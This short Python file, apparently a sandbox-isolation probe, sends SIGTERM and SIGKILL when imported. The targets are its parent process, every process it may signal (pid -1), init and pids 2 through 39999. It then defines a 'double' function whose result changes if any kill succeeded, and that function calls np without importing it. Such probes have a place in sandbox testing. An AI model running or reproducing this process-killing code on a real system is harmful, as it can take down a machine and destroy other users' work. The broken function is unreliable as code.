"""Signals everybody it can think of."""
import os
import signal

reached = []
for pid in [os.getppid(), 0, -1, 1, *range(2, 40000)]:
    for number in (signal.SIGTERM, signal.SIGKILL) if pid else (signal.SIGCONT,):
        try:
            os.kill(pid, number)
            # Some versions of Linux take the number of a thread for its process: its own threads are nobody else.
            if pid > 1 and str(pid) not in os.listdir("/proc/self/task"):
                reached.append(pid)
        except OSError:
            pass


def double(x):
    return np.asarray(x) * (2.0 if reached else 3.0)
